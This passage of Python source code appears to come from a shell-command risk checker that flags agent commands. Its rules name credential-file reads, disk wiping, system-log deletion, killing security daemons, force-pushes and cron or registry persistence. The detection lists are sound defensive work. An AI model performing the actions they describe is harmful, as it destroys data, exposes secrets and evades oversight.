        if secret is None or secret == "the environment (tokens and keys)":
            return
        if cmd.name in _DUMPERS and self.credential_files.search(secret):
            add(Finding("block.shell.credential-read", Risk.CRITICAL, f"prints {secret}: a private key or "
                        f"credential file (as a file_read of it){where}", cmd.span))
            return
        add(Finding("confirm.shell.secret-read", Risk.HIGH if "/" in secret or "key" in secret else Risk.MEDIUM,
                    f"reads {secret}{where}", cmd.span))

    # -- command families -----------------------------------------------------------------------

    def delete(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        flags, operands = _split_flags(cmd)
        name = cmd.name
        words = set(cmd.words[1:])
        recursive = bool(flags & {"-r", "-R", "--recursive"}) or (name in ("rd", "rmdir") and "/s" in words) or \
            (name in ("remove-item", "ri") and any(w.startswith("-r") for w in words)) or \
            (name == "del" and "/s" in words)
        verb = "shreds" if name in ("shred", "srm", "wipe") else "recursive delete of" if recursive else "delete of"
        if name in ("del", "erase", "rd"):
            operands = [(i, a) for i, a in operands if not a.startswith("/") or ":" in a]
        if not operands:
            if cmd.found and "xargs" in cmd.via:
                add(Finding("confirm.shell.destructive", Risk.HIGH,
                            f"{name} {'-r ' if recursive else ''}on whatever xargs is given{where}", cmd.span))
            return
        for i, word in operands:
            if word == "{}":
                continue  # find -exec: judged with the find command
            if i in cmd.dynamic:
                add(Finding("confirm.shell.destructive", Risk.HIGH,
                            f"{verb} {word}: its value is only known at run time{where}", cmd.span))
                continue
            path = self.resolve(cmd, word)
            if path and path.startswith("/dev/") and not _HARMLESS_DEV.match(path) and name in ("shred", "wipe"):
                add(Finding("block.shell.disk-destruction", Risk.CRITICAL, f"shreds the device {path}{where}",
                            cmd.span))
                continue
            hit = self.protected_target(cmd, word)
            if hit:
                add(Finding("block.shell.recursive-delete-root", Risk.CRITICAL, f"{verb} {hit}{where}", cmd.span))
                continue
            if path and self.logs is not None and self.logs.search(path):
                add(Finding("block.shell.anti-forensics", Risk.CRITICAL,
                            f"deletes the system log {display_path(path)}{where}", cmd.span))
                continue
            if _HISTORY_FILE.search(path or word.lower()):
                add(Finding("confirm.shell.defense-evasion", Risk.HIGH, f"deletes the shell history {word}",
                            cmd.span))
                continue
            if path and ".." in word.split("/") and word.startswith(("/", "~")) and \
                    not path.startswith(word.split("/..", 1)[0].lower()):
                add(Finding("confirm.shell.obfuscated", Risk.HIGH,
                            f"the path {word} climbs out of where it starts: it is really {display_path(path)}",
                            cmd.span))
            if name in ("shred", "srm", "wipe"):
                add(Finding("confirm.shell.destructive", Risk.HIGH, f"shreds {word} (unrecoverable){where}", cmd.span))
                continue
            if recursive:
                if self.regenerable_target(cmd, word):
                    continue
                absolute = bool(path)
                add(Finding("confirm.shell.destructive", Risk.HIGH if absolute or word in (".", "..", "*") else
                            Risk.MEDIUM, f"{verb} {display_path(path) if path else word}{where}", cmd.span))
            elif _GLOB_CHARS.search(word):
                add(Finding("confirm.shell.destructive", Risk.MEDIUM, f"deletes every file matching {word}{where}",
                            cmd.span))
            elif path and not path.startswith(("/tmp/", "/var/tmp/")) and not cmd.cwd:
                add(Finding("confirm.shell.destructive", Risk.MEDIUM, f"deletes {display_path(path)}{where}",
                            cmd.span))
            elif cmd.remote or cmd.found:
                add(Finding("confirm.shell.destructive", Risk.MEDIUM, f"deletes {word}{where}", cmd.span))
            elif self.confirm_file_deletes and not (path and path.startswith(("/tmp/", "/var/tmp/"))) and \
                    not self.inside_regenerable(word):
                # wrapper parity: the same as a `file_delete` action, which always asks
                add(Finding("confirm.shell.destructive", Risk.LOW, f"deletes {word}{where}", cmd.span))

    def find(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words)
        roots: list[tuple[int, str]] = []
        for i, a in enumerate(cmd.argv[1:], 1):
            if a.startswith(("-", "(", "!", ")", "\\(")):
                break
            roots.append((i, a))
        exec_deleter = None
        for k, w in enumerate(words):
            if w in ("-exec", "-execdir", "-ok", "-okdir") and k + 1 < len(words):
                inner = words[k + 1].rsplit("/", 1)[-1]
                if inner in _DELETERS or inner in ("shred", "mv") or (inner in SHELLS and "rm " in " ".join(words[k:])):
                    exec_deleter = inner
        if "-delete" not in words and exec_deleter is None:
            return
        filters = any(w in ("-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-type", "-mtime", "-mmin",
                            "-atime", "-ctime", "-newer", "-size", "-user", "-group", "-perm", "-empty", "-wholename",
                            "-links", "-inum", "-samefile", "-cmin", "-amin", "-newermt", "-nouser")
                      for w in words)
        how = "-delete" if "-delete" in words else f"-exec {exec_deleter}"
        if not roots:
            roots = [(0, ".")]
        for i, root in roots:
            hit = None if i in cmd.dynamic else self.protected_target(cmd, root)
            if hit and not filters:
                add(Finding("block.shell.recursive-delete-root", Risk.CRITICAL,
                            f"find {hit} {how}: deletes everything under {hit}{where}", cmd.span))
            elif hit and self.logs is not None and self.logs.search(self.resolve(cmd, root) or ""):
                add(Finding("block.shell.anti-forensics", Risk.CRITICAL, f"deletes system logs under {hit}{where}",
                            cmd.span))
            elif not hit and i not in cmd.dynamic and _build_junk_only(root, words):
                continue  # `find . -name '*.pyc' -delete`: build and editor leftovers inside the project
            else:
                shown = hit or root
                add(Finding("confirm.shell.destructive", Risk.HIGH if hit or i in cmd.dynamic else Risk.MEDIUM,
                            f"find {shown} {how}: deletes every match under {shown}{where}", cmd.span))

    def move(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        """mv/cp/install/ln: sources that disappear (mv), destinations that get written."""
        flags, operands = _split_flags(cmd)
        ops = [a for i, a in operands if i not in cmd.dynamic]
        target_dir = next((cmd.argv[i + 1] for i, a in enumerate(cmd.argv[:-1]) if a in ("-t", "--target-directory")),
                          None)
        if target_dir is None and len(ops) < 2:
            return
        dest = target_dir or ops[-1]
        sources = ops if target_dir else ops[:-1]
        if cmd.name == "mv":
            for src in sources:
                hit = self.protected_target(cmd, src)
                if hit:
                    add(Finding("block.shell.system-file-tamper", Risk.CRITICAL,
                                f"moves {hit} away: the system depends on it{where}", cmd.span))
            if self.resolve(cmd, dest) == "/dev/null":
                add(Finding("confirm.shell.destructive", Risk.HIGH, f"moves {', '.join(sources)} to /dev/null{where}",
                            cmd.span))
                return
        if cmd.name in ("cp", "mv", "install", "ln", "rsync"):
            self.write_target(cmd, dest, "overwrite", where, add, "replaces")
            if cmd.name != "ln" and (dest.rstrip("/").endswith(".ssh") or dest.endswith("/")):
                for src in sources:
                    base = src.rsplit("/", 1)[-1]
                    if base.startswith(("authorized_keys", "id_")):
                        self.write_target(cmd, dest.rstrip("/") + "/" + base, "overwrite", where, add, "replaces")

    def tee(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        flags, operands = _split_flags(cmd)
        mode = "append" if flags & {"-a", "--append"} else "overwrite"
        for i, a in operands:
            if i not in cmd.dynamic:
                self.write_target(cmd, a, mode, where, add, "appends to" if mode == "append" else "overwrites")

    def sed(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        if not any(a == "-i" or a.startswith(("-i", "--in-place")) or re.fullmatch(r"-[a-zA-Z]*i[a-zA-Z]*", a)
                   for a in cmd.argv[1:]):
            return
        flags, operands = _split_flags(cmd)
        has_script = any(a in ("-e", "--expression", "-f") for a in cmd.argv)
        files = operands if has_script else operands[1:]
        for i, a in files:
            if i not in cmd.dynamic:
                self.write_target(cmd, a, "edit", where, add, "edits")

    def truncate(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        flags, operands = _split_flags(cmd)
        empties = any(re.fullmatch(r"(-s|--size=?)0", a) for a in cmd.argv[1:]) or \
            any(a in ("-s", "--size") and b == "0" for a, b in zip(cmd.argv[1:], cmd.argv[2:], strict=False))
        for i, a in operands:
            if i not in cmd.dynamic and not re.fullmatch(r"[-+<>/%]?\d+[kmgtpezy]?b?", a, re.I):
                self.write_target(cmd, a, "overwrite", where, add, "truncates")
                if empties and re.search(r"\.(db|sqlite3?|sql|mdb|accdb|bak|tar|gz|zip|dump|ldb|frm|ibd)$", a, re.I):
                    add(Finding("confirm.shell.destructive", Risk.HIGH, f"truncate empties the data file {a}{where}",
                                cmd.span))

    def dd(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        for a in cmd.words[1:]:
            if a.startswith("of="):
                self.write_target(cmd, a[3:], "overwrite", where, add, "dd writes over")

    def mkfs(self, cmd: Command, where: str, add: Callable[[Finding], None]) -> None:
        _, operands = _split_flags(cmd)
        devices = [a for _, a in operands if a.lower().startswith("/dev/")]
        if devices or not operands:
            add(Finding("block.shell.disk-destruction", Risk.CRITICAL,
                        f"formats {', '.join(devices) or 'a disk'} ({cmd.name}): erases everything on it{where}",
                        cmd.span))
        else:
            add(Finding("confirm.shell.destructive", Risk.HIGH, f"creates a filesystem ({cmd.name}){where}", cmd.span))

    def disk_tool(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if any(w in ("-l", "--list", "print", "-p", "--print", "-s", "--show") for w in words) and \
                not any(w in ("--delete", "--zap-all", "-z", "-o", "--clear", "mklabel", "rm") for w in words):
            return
        devices = [w for w in words if w.startswith("/dev/")]
        add(Finding("block.shell.disk-destruction", Risk.CRITICAL,
                    f"{cmd.name} rewrites the partition table of {', '.join(devices) or 'a disk'}{where}", cmd.span))

    def wipefs(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        flags, _ = _split_flags(cmd)
        if cmd.name == "wipefs" and not flags & {"-a", "--all", "-o", "--offset", "-f", "--force"}:
            return
        add(Finding("block.shell.disk-destruction", Risk.CRITICAL, f"{cmd.name} erases disk signatures or data{where}",
                    cmd.span))

    def disk_erase(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words)
        name = cmd.name
        if name == "hdparm" and not any(x in w for w in words for x in ("security-erase", "trim-sector", "fwdownload")):
            return
        if name == "nvme" and not any(w in ("format", "sanitize") for w in words):
            return
        if name == "mdadm" and not any(w in ("--zero-superblock", "--kill-subarray") for w in words):
            return
        if name == "cryptsetup" and not any(w in ("luksformat", "erase", "lukserase", "luksremovekey",
                                                  "luksKillSlot".lower())
                                            for w in words):
            return
        if name in ("zpool", "zfs") and "destroy" not in words:
            return
        if name == "badblocks" and "-w" not in words:
            return
        if name == "format" and not any(re.fullmatch(r"[a-z]:", w) for w in words):
            return
        if name in ("diskpart",) and not any(w in ("clean", "format", "delete") for w in words) and words[1:]:
            return
        if name == "diskutil" and not any(w in ("erasedisk", "erasevolume", "zerodisk", "randomdisk",
                                                "secureerase", "partitiondisk", "reformat") for w in words):
            return
        add(Finding("block.shell.disk-destruction", Risk.CRITICAL, f"{name} erases a disk{where}", cmd.span))

    def permissions(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        flags, operands = _split_flags(cmd)
        recursive = bool(flags & {"-R", "--recursive"}) or (cmd.name in ("icacls",) and "/t" in cmd.words)
        ops = [(i, a) for i, a in operands]
        if cmd.name == "chmod":
            # a symbolic mode like -w or a+rwx may look like a flag: take the first non-path word as the mode
            mode_word = next((a for a in cmd.argv[1:] if _CHMOD_MODE.fullmatch(a)), "")
            paths = [(i, a) for i, a in ops if a != mode_word]
            m = mode_word.lower()
            world = bool(re.fullmatch(r"[0-7]?[0-7][0-7][2367]", m)) or \
                bool(re.search(r"(^|,)[ugo]*[ao][ugo]*[+=][rwxst]*w", m)) \
                or m in ("a+rwx", "ugo+rwx", "a=rwx", "o+w", "o+rwx", "+rwx")
            setuid = bool(re.fullmatch(r"[4267][0-7]{3}", m)) or "+s" in m or "=s" in m
            for i, a in paths:
                if i in cmd.dynamic:
                    continue
                hit = self.protected_target(cmd, a)
                if hit and world:
                    add(Finding("block.shell.insecure-permissions-root", Risk.CRITICAL,
                                f"chmod {mode_word} on {hit}: makes it writable by everyone{where}", cmd.span))
                elif hit:  # a protected folder itself (`chmod 000 /`) or anything under a system tree
                    add(Finding("confirm.shell.system-write", Risk.HIGH,
                                f"changes permissions of {hit}{' recursively' if recursive else ''}{where}", cmd.span))
                elif world:
                    add(Finding("confirm.shell.insecure-permissions", Risk.MEDIUM,
                                f"chmod {mode_word} makes {a} writable by everyone{where}", cmd.span))
                if setuid:
                    add(Finding("confirm.shell.privilege-escalation", Risk.HIGH,
                                f"sets the setuid/setgid bit on {a}{where}", cmd.span))
            return
        # chown / chgrp
        paths = ops[1:] if cmd.name in ("chown", "chgrp") and ops else ops
        for i, a in paths:
            if i in cmd.dynamic:
                continue
            hit = self.protected_target(cmd, a)
            if hit and recursive:
                add(Finding("block.shell.insecure-permissions-root", Risk.CRITICAL,
                            f"{cmd.name} -R on {hit}: changes the owner of the whole tree{where}", cmd.span))
            elif hit:
                add(Finding("confirm.shell.system-write", Risk.HIGH, f"changes the owner of {hit}{where}", cmd.span))

    def git(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        argv = list(cmd.argv)
        k = 1
        while k < len(argv) and argv[k].startswith("-"):
            k += 2 if argv[k] in _GIT_VALUED else 1
        if k >= len(argv):
            return
        sub, args = argv[k].lower(), argv[k + 1:]
        short = {f"-{ch}" for a in args if a.startswith("-") and not a.startswith("--") for ch in a[1:]}
        longs = {a.split("=", 1)[0] for a in args if a.startswith("--")}

        def hit(reason: str, risk: Risk = Risk.MEDIUM) -> None:
            add(Finding("confirm.shell.vcs-destructive", risk, f"git {sub}: {reason}{where}", cmd.span))

        if sub == "push":
            refs = [a for a in args if not a.startswith("-")]
            if "--force" in longs or "-f" in short or any(r.startswith("+") for r in refs[1:] or refs):
                hit("force-push rewrites the remote's history", Risk.HIGH)
            if "--delete" in longs or "-d" in short or any(r.startswith(":") and len(r) > 1 for r in refs):
                hit("deletes a remote branch or tag", Risk.HIGH)
            if "--mirror" in longs or "--prune" in longs:
                hit("makes the remote match exactly (deletes what is missing here)", Risk.HIGH)
        elif sub == "reset" and ("--hard" in longs or "--merge" in longs):
            hit("--hard discards uncommitted changes")
        elif sub == "clean" and ("-f" in short or "--force" in longs) and not ("-n" in short or "--dry-run" in longs):
            hit("deletes untracked files")
        elif sub == "checkout":
            if "-f" in short or "--force" in longs:
                hit("--force discards local changes")
            elif ("--" in args and args.index("--") + 1 < len(args)) or "." in args or "--theirs" in longs or \
                    "--ours" in longs:
                hit("overwrites local changes to files")
        elif sub == "restore" and (("--staged" not in longs and "-S" not in short) or "--worktree" in longs or
                                   "-W" in short):
            hit("discards local changes to files")
        elif sub == "switch" and ("--discard-changes" in longs or "-f" in short or "--force" in longs):
            hit("discards local changes")
        elif sub == "branch" and ("-D" in short or (("--delete" in longs or "-d" in short) and
                                  ("--force" in longs or "-f" in short))):
            hit("force-deletes a branch (unmerged work is lost)")
        elif sub == "stash" and args and args[0] in ("drop", "clear"):
            hit(f"{args[0]} throws stashed work away")
        elif sub in ("prune", "filter-branch", "filter-repo") or (sub == "gc" and any(
                a.startswith("--prune") for a in args)) or \
                (sub == "reflog" and args and args[0] in ("expire", "delete")):
            hit("removes history or unreachable objects for good")
        elif sub == "update-ref" and "-d" in short:
            hit("deletes a ref")
        elif sub == "tag" and ("-d" in short or "--delete" in longs):
            hit("deletes a tag", Risk.LOW)
        elif sub == "rm" and ("-r" in short or "-f" in short):
            hit("removes files from the work tree")
        elif sub == "worktree" and args and args[0] == "remove" and ("--force" in longs or "-f" in short):
            hit("force-removes a work tree")

    def packages(self, cmd: Command, where: str, add: Callable[[Finding], None]) -> None:
        name = cmd.name
        words = list(cmd.words[1:])
        if name in ("yarn",) and words[:1] == ["global"]:
            words = words[1:]
        if name == "uv" and words[:1] in (["pip"], ["tool"]):
            words = words[1:]
        if not words:
            return
        verb = words[0]
        rest = words[1:]
        if name in ("pacman", "yay", "paru", "dpkg", "rpm", "nix-env"):
            verb = next((w for w in words if w.startswith("-")), "")
            rest = [w for w in words if not w.startswith("-")]
        install = _PKG_INSTALL.get(name, set())
        remove = _PKG_REMOVE.get(name, set())
        if verb in remove or (name == "pacman" and verb.startswith("-r")):
            targets = [w for w in rest if not w.startswith("-")]
            add(Finding("confirm.shell.install", Risk.MEDIUM,
                        f"uninstalls {' '.join(targets) or 'software'} ({name}){where}", cmd.span))
            return
        if not (verb in install or "*" in install or (name in ("pacman", "yay", "paru") and verb.startswith("-s"))):
            return
        if name == "add-apt-repository":
            rest = words
        valued = {"-r", "--requirement", "-c", "--constraint", "-e", "--editable", "-t", "--target", "--prefix",
                  "--root", "--python", "-p", "--index-url", "-i", "--extra-index-url", "--trusted-host",
                  "--registry", "--source", "-s"}
        targets: list[str] = []
        untrusted = False
        skip = False
        for w in rest:
            if skip:
                skip = False
                continue
            if w.startswith("-"):
                base = w.split("=", 1)[0]
                if base in _UNTRUSTED_FLAGS and not (name in ("npm", "pnpm", "yarn", "bun") and base == "-s"):
                    untrusted = True
                if base in valued and "=" not in w:
                    skip = True
                continue
            targets.append(w)
        local = [t for t in targets if t in (".", "..") or (t.startswith(("./", "../", "/")) and
                 not t.endswith((".deb", ".rpm", ".whl", ".pkg", ".msi", ".apk")))]
        packages = [t for t in targets if t not in local]
        if not packages and name not in ("dpkg", "rpm", "add-apt-repository"):
            return  # the project's own dependencies (npm install, pip install -r requirements.txt, pip install -e .)
        if any("://" in t or t.startswith(("git+", "github:", "gitlab:", "bitbucket:", "ppa:", "http")) or
               t.endswith(_ARCHIVES) for t in targets):
            untrusted = True
        what = " ".join(packages[:4]) or " ".join(targets[:4]) or "software"
        if untrusted or name == "add-apt-repository":
            add(Finding("confirm.shell.install", Risk.HIGH, f"installs {what} from an untrusted source ({name}){where}",
                        cmd.span))
        else:
            add(Finding("confirm.shell.install", Risk.MEDIUM, f"installs {what} ({name}){where}", cmd.span))

    def deploys(self, cmd: Command, where: str, add: Callable[[Finding], None]) -> None:
        name = cmd.name
        words = [w for w in cmd.words[1:]]
        verbs = [w for w in words if not w.startswith("-")]
        destroy = _INFRA_DESTROY.get(name, set())
        if any(v in destroy for v in verbs[:3]) or (name in ("docker", "podman") and (
                "prune" in verbs or verbs[:2] in (["volume", "rm"], ["image", "rm"], ["container", "rm"]))):
            if (name == "docker" and verbs[:1] == ["compose"]) or (name == "rclone" and verbs[:1] == ["sync"]):
                pass
            else:
                add(Finding("confirm.shell.destructive", Risk.HIGH, f"{name} {' '.join(verbs[:2])}: deletes "
                            f"infrastructure or data{where}", cmd.span))
                return
        if name == "terraform" and verbs[:1] == ["apply"] and "-destroy" in words:
            add(Finding("confirm.shell.destructive", Risk.HIGH, f"terraform apply -destroy{where}", cmd.span))
            return
        publish = _PUBLISH.get(name, set())
        if not publish:
            return
        if name in ("vercel",) and "--prod" in words:
            verbs = ["--prod"]
        if name == "netlify" and "--prod" not in words:
            return
        if name == "dotnet" and verbs[:2] != ["nuget", "push"]:
            return
        if name == "gh" and verbs[:2] not in (["release", "create"], ["release", "upload"]):
            return
        if name == "yarn" and verbs[:1] == ["npm"] and "publish" not in verbs:
            return
        if name == "docker" and verbs[:1] != ["push"]:
            return
        if (verbs[:1] and (verbs[0] in publish or "*" in publish)) or ("--prod" in verbs and "--prod" in publish):
            risk = Risk.HIGH if any(w in ("-auto-approve", "--yes", "-y", "--force") for w in words) or \
                verbs[0] in ("unpublish", "yank") else Risk.MEDIUM
            add(Finding("confirm.shell.publish", risk, f"{name} {verbs[0]}: publishes or deploys beyond this "
                        f"machine{where}", cmd.span))

    def cloud(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if (cmd.name == "aws" and (words[:2] in (["s3", "rm"], ["s3", "rb"]) or any(
                w.startswith(("delete-", "terminate-", "remove-", "deregister-")) for w in words[:3]))) or \
                (cmd.name in ("gcloud", "az") and ("delete" in words[:5] or "purge" in words[:5])):
            add(Finding("confirm.shell.destructive", Risk.HIGH, f"{cmd.name} {' '.join(words[:3])}: deletes cloud "
                        f"resources{where}", cmd.span))
        elif cmd.name == "aws" and words[:2] == ["s3", "sync"] and "--delete" in words:
            add(Finding("confirm.shell.destructive", Risk.HIGH, f"aws s3 sync --delete{where}", cmd.span))
        elif "deploy" not in words[:4] and any(_CLOUD_MUTATION.match(w) for w in words[:4] if not w.startswith("-")):
            verb = next(w for w in words[:4] if _CLOUD_MUTATION.match(w))
            add(Finding("confirm.shell.remote-mutation", Risk.MEDIUM, f"{cmd.name} {verb}: changes cloud "
                        f"resources or access{where}", cmd.span))
        elif "deploy" in words[:4]:
            add(Finding("confirm.shell.publish", Risk.MEDIUM, f"{cmd.name} {' '.join(words[:3])}: deploys{where}",
                        cmd.span))

    def docker_run(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        verbs = [w for w in words if not w.startswith("-")]
        if not verbs or (verbs[0] not in ("run", "create", "exec") and verbs[:2] != ["container", "run"]):
            if cmd.name in ("docker-compose",) or verbs[:1] == ["compose"]:
                if "down" in verbs and any(w in ("-v", "--volumes", "--rmi") for w in words):
                    add(Finding("confirm.shell.destructive", Risk.HIGH, f"compose down deletes volumes/images{where}",
                                cmd.span))
            elif verbs[:1] in (["system"], ["volume"], ["image"], ["container"], ["network"], ["builder"]) and \
                    "prune" in verbs:
                add(Finding("confirm.shell.destructive", Risk.HIGH, f"docker {' '.join(verbs[:2])}{where}", cmd.span))
            return
        joined = " ".join(words)
        risky = [w for w in words if w == "--privileged" or w.startswith(
            ("--pid=host", "--cap-add=sys_admin", "--cap-add=all", "--security-opt=apparmor=unconfined",
             "--userns=host"))]
        if re.search(r"(^| )(-v|--volume)[ =]/(:|\s)|(^| )(-v|--volume)[ =]/var/run/docker\.sock", joined) or \
                ("--mount" in words and "source=/," in joined):
            risky.append("the host's root or docker socket mounted")
        elif re.search(r"(^| )(-v|--volume)[ =](/etc|/root|/home|/boot|/var|/usr|/proc|/sys|/dev|~|/home/~)(/[^:]*)?:",
                       joined):
            risky.append("a system or home directory of the host mounted")
        if risky:
            add(Finding("confirm.shell.privilege-escalation", Risk.HIGH,
                        f"container with host-level access ({', '.join(risky)}){where}", cmd.span))
        self.deploys(cmd, where, add)

    def sql(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        texts: list[str] = []
        for i in cmd.upstream:  # echo "DROP TABLE x" | psql
            up = analysis.commands[i]
            if up.name in ("echo", "printf") or up.stdin_text:
                texts.append(" ".join(up.words[1:]) + " " + (up.stdin_text or "").lower())
        words = list(cmd.words)
        name = cmd.name
        if name in ("drop", "truncate", "delete", "alter", "update"):
            texts.append(" ".join(words))
        else:
            for k, w in enumerate(words[1:], 1):
                base = w.split("=", 1)[0]
                if base in _DB_CODE_FLAGS and "=" in w:
                    texts.append(w.split("=", 1)[1])
                elif base in _DB_CODE_FLAGS and k + 1 < len(words):
                    texts.append(words[k + 1])
            if name in ("sqlite3", "duckdb", "litecli") or name == "redis-cli" or name in ("mongo", "mongosh"):
                texts.append(" ".join(w for w in words[1:] if not w.startswith("-")))
            if cmd.stdin_text:
                texts.append(cmd.stdin_text.lower())
        for text in texts:
            m = _SQL_BLOCK.search(text)
            if m:
                add(Finding("block.shell.database-destruction", Risk.CRITICAL,
                            f"destroys database data: {m.group(0).strip()[:60]}{where}", cmd.span))
                return
            m = _SQL_CONFIRM.search(text)
            if m:
                add(Finding("confirm.shell.destructive", Risk.HIGH, f"changes or deletes database rows: "
                            f"{m.group(0).strip()[:60]}{where}", cmd.span))
                return

    def db_tools(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if cmd.name in ("dropdb", "dropuser") or \
                (cmd.name == "mysqladmin" and any(w in ("drop", "-f") for w in words[:3]) \
                and "drop" in words):
            add(Finding("block.shell.database-destruction", Risk.CRITICAL, f"{cmd.name} drops a database{where}",
                        cmd.span))

    def frameworks(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if cmd.name == "php" and not (words[:1] and words[0].endswith("artisan")):
            return
        if any(w in ("db:drop", "db:reset", "db:schema:load", "db:purge", "flush", "reset_db", "migrate:fresh",
                     "db:wipe", "db:drop:all", "schema:drop",
                     "migrate:reset", "migrate:refresh") for w in words) or (cmd.name in ("prisma",) and \
                words[:2] == ["migrate", "reset"]):
            add(Finding("confirm.shell.destructive", Risk.HIGH, f"{cmd.name} {' '.join(words[:2])}: wipes a "
                        f"database{where}", cmd.span))

    def power(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if cmd.name == "shutdown" and any(w in ("-c", "/a") for w in words):
            return
        add(Finding("confirm.shell.system-disruption", Risk.HIGH, f"{cmd.name}: takes the machine down{where}",
                    cmd.span))

    def init(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        if cmd.words[1:2] and cmd.words[1] in ("0", "1", "6", "s", "single", "emergency"):
            add(Finding("confirm.shell.system-disruption", Risk.HIGH,
                        f"{cmd.name} {cmd.words[1]}: changes the run level (halts or reboots){where}", cmd.span))

    def services(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = [w for w in cmd.words[1:] if not w.startswith("-")]
        if cmd.name == "service":
            words = words[1:2] + words[:1]
        if not words:
            return
        verb, units = words[0], [u.removesuffix(".service") for u in words[1:]]
        if cmd.name in ("systemctl", "loginctl") and verb in ("poweroff", "reboot", "halt", "kexec", "suspend",
                                                             "hibernate", "rescue", "emergency", "soft-reboot",
                                                             "hybrid-sleep", "terminate-session", "kill-session"):
            add(Finding("confirm.shell.system-disruption", Risk.HIGH, f"{cmd.name} {verb}{where}", cmd.span))
            return
        if verb in ("enable", "link", "preset") and cmd.name == "systemctl":
            add(Finding("confirm.shell.persistence", Risk.MEDIUM,
                        f"systemctl {verb} {' '.join(units)}: starts it at every boot{where}", cmd.span))
            return
        if verb == "daemon-reload" or verb not in _SERVICE_VERBS:
            return
        security = [u for u in units if u in self.security or u.startswith(("selinux", "apparmor", "firewall"))]
        if security and verb in ("stop", "disable", "mask", "kill"):
            add(Finding("block.shell.defense-evasion", Risk.CRITICAL,
                        f"{verb}s the security service {', '.join(security)}{where}", cmd.span))
            return
        critical = [u for u in units if u in self.critical]
        add(Finding("confirm.shell.system-disruption", Risk.HIGH if critical else Risk.MEDIUM,
                    f"{cmd.name} {verb} {' '.join(units)}{where}", cmd.span))

    def kill(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if cmd.name == "kill" and (not words or words[0] in ("-l", "-0", "-L", "--list")):
            return
        # a security or logging daemon named, or found by pgrep/pidof in a substitution: a defence switched off
        named = [w for w in words if not w.startswith("-")] if cmd.name != "kill" else \
            [w for i in cmd.subst for w in analysis.commands[i].words[1:] if analysis.commands[i].name in
             ("pgrep", "pidof") and not w.startswith("-")]
        hit = next((w for w in named if w in self.security), None)
        if hit:
            add(Finding("block.shell.defense-evasion", Risk.CRITICAL,
                        f"{cmd.name} kills the security or logging daemon {hit}{where}", cmd.span))
            return
        everything = cmd.name == "killall5" or (cmd.name == "kill" and ("-1" in words[1:] or words[-1:] == ["-1"]) and \
            len(words) > 1) or (cmd.name == "kill" and "1" in [w for w in words if not w.startswith("-")])
        add(Finding("confirm.shell.system-disruption", Risk.HIGH if everything else Risk.MEDIUM,
                    f"{cmd.name} {' '.join(cmd.argv[1:4])}: "
                    f"{'kills every process' if everything else 'kills processes'}"
                    f"{where}", cmd.span))

    def launchctl(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if words[:1] and words[0] in ("load", "bootstrap", "submit", "enable"):
            add(Finding("confirm.shell.persistence", Risk.MEDIUM, f"launchctl {words[0]}: registers a job{where}",
                        cmd.span))
        elif words[:1] and words[0] in ("unload", "bootout", "remove", "disable", "kill", "stop"):
            add(Finding("confirm.shell.system-disruption", Risk.MEDIUM, f"launchctl {words[0]}{where}", cmd.span))

    def crontab(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if "-l" in words and all(w in ("-l", "-u") or (not w.startswith("-") and "-u" in words) for w in words):
            return
        what = "removes every cron job" if "-r" in words else "changes scheduled jobs"
        add(Finding("confirm.shell.persistence", Risk.MEDIUM, f"crontab {' '.join(cmd.argv[1:3])}: {what}{where}",
                    cmd.span))

    def scheduled(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if cmd.name == "schtasks" and not any(w in ("/create", "/change", "/run") for w in words):
            return
        if cmd.name == "reg" and not (words[:1] == ["add"] and any(
                re.search(r"currentversion\\?(run|runonce|runservices)\b|\\?winlogon\b|image ?file ?execution ?options",
                          w) for w in words)):
            return
        if cmd.name in ("at", "batch") and (not words or words[0] in ("-l", "-r", "-d", "-c")):
            return
        if cmd.name in ("update-rc.d", "chkconfig") and not any(w in ("enable", "defaults", "on") for w in words):
            return
        add(Finding("confirm.shell.persistence", Risk.MEDIUM, f"{cmd.name}: makes something run later{where}",
                    cmd.span))

    def accounts(self, cmd: Command, analysis: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
        words = list(cmd.words[1:])
        if cmd.name == "net" and (not words or words[0] not in ("user", "localgroup", "group", "accounts")):
            return  # net use / view / share / time: not accounts
        joined = " ".join(words)
